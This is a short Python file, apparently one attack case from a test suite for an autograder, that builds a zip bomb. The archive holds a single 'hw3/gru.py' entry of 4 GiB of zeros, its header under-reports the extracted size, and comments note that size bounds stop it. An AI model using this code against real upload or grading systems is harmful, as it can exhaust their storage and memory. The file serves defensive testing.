# attack: a zip of some megabytes whose one file is 4 GiB of zeros, and says that it is small
# earns: 0
# stopped by: the bounds on one file and on what may come out of an archive
import struct
import zlib
from pathlib import Path


def build(path: Path) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    content = block * 4096 + packer.flush()
    name = b"hw3/gru.py"
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, len(content), 0xFFFFFFFE, len(name), 0)
    local = b"PK\x03\x04" + common + name
    entry = b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(local) + len(content), 0)
    path.write_bytes(local + content + entry + b"PK\x05\x06" + end)
